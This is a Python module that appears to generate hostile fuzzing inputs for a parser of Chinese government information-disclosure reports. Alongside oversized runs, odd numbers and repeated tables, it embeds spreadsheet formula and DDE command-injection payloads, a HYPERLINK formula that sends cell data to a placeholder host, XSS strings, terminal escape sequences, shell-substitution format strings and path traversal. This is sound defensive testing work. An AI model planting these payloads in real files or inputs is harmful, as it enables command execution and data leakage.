"""Flat text: characters in long runs, lines without end, numbers without bounds, what steers terminals and sheets."""

from __future__ import annotations

from collections.abc import Iterator

from hostile.files import READ, HostileFile, grown, written
from hostile.reports import HEADINGS, NEW_REQUESTS, REQUESTS_HEADING, ROW, TITLE, flat_report

BINARY = frozenset({"binary_input"})
# One character or short word, over and over: each is what some pattern of the package repeats or looks for.
RUNS = {
    "spaces": " ",
    "ideographic-spaces": "　",
    "no-break-spaces": "\xa0",
    "zero-width-spaces": "\u200b",
    "tabs": "\t",
    "form-feeds": "\f",
    "vertical-tabs": "\v",
    "line-separators": "\u2028",
    "next-lines": "\x85",
    "carriage-returns": "\r",
    "line-feeds": "\n",
    "nuls": "\0",
    "escapes": "\x1b[",
    "dots": ".",
    "ideographic-stops": "。",
    "commas": ",",
    "enumeration-commas": "、",
    "digits": "7",
    "full-width-digits": "７",
    "digit-groups": "1,000",
    "signs": "+-",
    "minuses": "-",
    "dashes": "—",
    "slashes": "/",
    "bars": "|",
    "box-bars": "│",
    "box-corners": "┼─",
    "brackets": "（",
    "bracket-pairs": "（）",
    "ascii-brackets": "(",
    "square-brackets": "[",
    "book-brackets": "《",
    "colons": "：",
    "quotes": '"',
    "stars": "*",
    "hashes": "#",
    "backticks": "`",
    "backslashes": "\\",
    "less-thans": "<",
    "tag-starts": "<td ",
    "tag-ends": "</",
    "comments": "<!--",
    "ampersands": "&",
    "entities": "&#",
    "percents": "%",
    "years": "2021年",
    "dates": "2021年1月1日至",
    "units": "件",
    "ordinals": "一、",
    "numerals": "一二三四五六七八九十百千万亿",
    "ordinal-items": "（一）",
    "item-words": "一是",
    "titles": "信息公开工作年度报告",
    "organs": "局",
    "of-which": "其中：",
    "rises": "增加2项",
    "equal": "持平",
    "changes": "+5/-2",
    "nothing": "无",
    "rules": "---|",
    "pinyin": "zhèng",
    "accents": "e\u0301",
    "marks": "\u0301",
    "variation-selectors": "\ufe0f",
    "bidi": "\u202e",
    "byte-order-marks": "\ufeff",
    "private-use": "\ue000",
    "radicals": "⼀",
    "compatibility": "\uf900",
    "astral": "𠀀",
    "emoji": "👨‍👩‍👧",
    "replacement": "\ufffd",
    "traditional": "資訊公開網際網路",
    "page-numbers": "- 4 -\n",
    "lone-digits": "1\n",
    "blank-rows": "\n \n",
    "tab-cells": "0\t",
}

ODD_NUMBERS = {
    "exponent": "1e400",
    "infinity": "Infinity",
    "not-a-number": "NaN",
    "million-digits": "9" * 1_000_000,
    "million-zeros": "0" * 1_000_000,
    "power": "10^400",
    "decimal-tail": "0." + "3" * 100_000,
    "digit-groups": ",".join(["1"] + ["000"] * 50_000),
    "superscripts": "²³¹",
    "roman": "ⅩⅣ",
    "circled": "①②③",
    "arabic-indic": "٣٤٥",
    "thai": "๓๔๕",
    "counting-rods": "𝍠𝍡",
    "formal-numerals": "壹佰贰拾叁",
    "underscores": "1_000",
    "signs-only": "+" * 10_000,
    "minus-signs": "−–—-3",
    "mixed-widths": "１2３,4５６",
    "two-points": "1.2.3.4",
    "hexadecimal": "0x7fffffff",
    "negative-huge": "-" + "9" * 400,
    "fraction": "½",
    "spaces-inside": "1 2 3 4 5 6 7",
}

FORMULAS = {
    "link": '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide": "＝1＋1",
    "tabbed": "\t=1+1",
    "dde": '=DDE("cmd";"/C calc";"x")',
    "quoted": '"=1+1"',
}


# Rows of drawn tables that go on without end.
DRAWN = {
    "lines-between-two-rules": "+---+---+\n" + "".join(f"|文字{n}|{n}|\n" for n in range(20_000)) + "+---+---+\n",
    "values-under-a-row": f"|{NEW_REQUESTS}|1|\n" + "||7|\n" * 20_000,
    "values-under-a-wide-row": f"|{NEW_REQUESTS}|{'1|' * 4_000}\n" + f"||7|{'|' * 3_998}\n" * 50,
    "rows-of-csv": "规章,1,2,3\n" * 20_000,
    "quotes-of-csv": '规章,"1,"2,"3\n' * 20_000,
}


def files() -> Iterator[HostileFile]:
    """Every flat text."""
    yield from _runs()
    for name, table in DRAWN.items():
        yield written(f"text/{name}.txt", f"{TITLE}\n{REQUESTS_HEADING}\n{table}")
    for name, number in ODD_NUMBERS.items():
        yield written(f"text/number-{name}.txt", flat_report().replace("\n3\n", f"\n{number}\n", 1))
    for name, formula in FORMULAS.items():
        row = f"{formula}\n1\n0\n0\n0\n0\n0\n1\n"
        yield written(f"text/formula-{name}.txt", flat_report().replace("二、", f"{formula}二、") + row)
    yield from _steering()
    yield from _counts()


def _runs() -> Iterator[HostileFile]:
    for name, piece in RUNS.items():
        size = 8_000 // len(piece)
        # In the midst of a report, so that every step that looks at reports meets the run.
        inside = f"{TITLE}{piece * size}\n{REQUESTS_HEADING}{piece * size}\n{NEW_REQUESTS}\n{piece * size}\n1\n"
        yield written(f"text/run-of-{name}.txt", inside, BINARY if name == "nuls" else READ)


def _steering() -> Iterator[HostileFile]:
    """Characters that act on what shows them."""
    yield written("text/terminal-title.txt", f"\x1b]0;owned\x07\x1b[2J{flat_report()}\x1b[6n")
    yield written(
        "text/terminal-in-label.txt", flat_report().replace("（一）予以公开", "（一）\x1b[31m予以公开\x1b[0m")
    )
    yield written("text/terminal-c1.txt", flat_report().replace("水务局", "水务\x9b31m局"))
    yield written("text/bidi-override.txt", flat_report().replace("12", "\u202e21\u202c"))
    yield written("text/bidi-isolates.txt", flat_report().replace("\n3\n", "\n\u2066\u20673\u2069\n"))
    yield written("text/zalgo.txt", "".join(c + "\u0300\u0316\u0489" * 20 for c in flat_report()))
    yield written("text/lone-surrogates.txt", flat_report().replace("公开", "公\ud800开\udfff"))
    yield written("text/nul-between-all.txt", "\0".join(flat_report()), BINARY)
    yield written("text/script-in-title.txt", flat_report().replace("溪口县", "<script>alert(1)</script>溪口县"))
    yield written("text/image-in-title.txt", flat_report().replace("溪口县", '"><img src=x onerror=alert(1)>溪口县'))
    yield written("text/rich-markup.txt", flat_report().replace("溪口县", "[bold red]溪口县[/][link=http://a.invalid]"))
    yield written("text/format-strings.txt", flat_report().replace("溪口县", "{0.__class__}%s%n$(id)`id`溪口县"))
    yield written("text/path-as-authority.txt", flat_report().replace("溪口县", "../../../../etc/溪口县"))
    yield written("text/newlines-in-title.txt", flat_report().replace("年度报告", "\n年\r度\u2028报\x85告", 1))


def _counts() -> Iterator[HostileFile]:
    """Reports and parts of them many times over; linear cost is the point, so each comes in two sizes."""
    row = "\n".join(ROW) + "\n"
    head = f"{TITLE}\n{REQUESTS_HEADING}\n"
    yield from grown("text/reports-repeated.txt", lambda n: (flat_report() * n).encode(), 20)
    yield from grown("text/rows-repeated.txt", lambda n: (head + row * n).encode(), 1_000)
    yield from grown("text/headings-repeated.txt", lambda n: ("\n".join(HEADINGS) * n).encode(), 300)
    yield from grown("text/items-in-section.txt", lambda n: (HEADINGS[0] + "\n（一）公开。" * n).encode(), 3_000)
    yield from grown("text/numbers-in-line.txt", lambda n: (head + NEW_REQUESTS + " 0" * n).encode(), 50_000)
    yield from grown("text/numbers-in-lines.txt", lambda n: (head + NEW_REQUESTS + "\n1" * n).encode(), 50_000)
    yield from grown("text/one-line.txt", lambda n: ("信息公开 12 | " * n).encode(), 5_000, times=220)
    yield from grown("text/prose-claims.txt", lambda n: (head + "收到政府信息公开申请3件，" * n).encode(), 500)
    yield from grown("text/titles-repeated.txt", lambda n: (f"{TITLE}\n" * n).encode(), 500)
    yield from grown("text/ascii-only.txt", lambda n: (TITLE + "lorem ipsum 12 " * n).encode(), 5_000)
    yield from grown("text/traditional-line.txt", lambda n: (TITLE + "資訊公開條例網際網路" * n).encode(), 3_000)
    yield from grown("text/parts-declared.txt", lambda n: (TITLE + "\n本报告由" + "总体情况、" * n).encode(), 3_000)
    yield from grown("text/pipe-table.txt", lambda n: (head + ("|" + "0|" * 8 + "\n") * n).encode(), 2_000)
    yield from grown("text/wide-pipe-row.txt", lambda n: (head + "|" + "0|" * n).encode(), 20_000)
    yield from grown("text/embedded-cells.md", lambda n: (head + "<table>" + "<td>0" * n).encode(), 10_000)
    yield from grown("text/aligned-lines.txt", lambda n: (head + ("规章" + " " * 40 + "3\n") * n).encode(), 1_000)
